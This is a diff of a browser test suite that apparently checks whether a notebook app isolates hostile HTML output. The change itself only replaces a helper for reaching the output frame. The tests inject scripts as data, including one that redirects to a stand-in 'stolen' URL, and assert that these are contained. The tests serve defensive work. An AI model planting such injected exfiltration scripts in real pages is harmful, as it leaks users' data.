@@ -95,7 +95,7 @@ describe("a hostile document", () => {
     await page.newNotebook();
     const html = `<p id="log">…</p><script type="module">\n${attack(site.url)}\ndocument.getElementById("log").textContent = JSON.stringify(log);</script>`;
     await page.runCell(0, `from IPython.display import HTML, display\ndisplay(HTML(${JSON.stringify(html)}))`);
-    const log = page.outputs(0).frameLocator("iframe").locator("#log");
+    const log = page.outputFrame(0).locator("#log");
     await log.filter({ hasText: "{" }).waitFor();
     assert.deepEqual(reachedIn(JSON.parse(await log.textContent()), attempts), [CONTROL]);
     await page.screenshot("hostile-output");
@@ -109,7 +109,7 @@ describe("a hostile document", () => {
     await page.newNotebook();
     const html = "<p>here</p><script>setTimeout(() => { location.href = 'https://example.org/?stolen'; }, 200)</script>";
     await page.runCell(0, `from IPython.display import HTML, display\ndisplay(HTML(${JSON.stringify(html)}))`);
-    await page.outputs(0).frameLocator("iframe").locator("p").waitFor();
+    await page.outputFrame(0).locator("p").waitFor();
     await page.page.waitForTimeout(1000);
     assert.deepEqual(requested.filter((url) => url.includes("example.org")), []);
     await page.close();
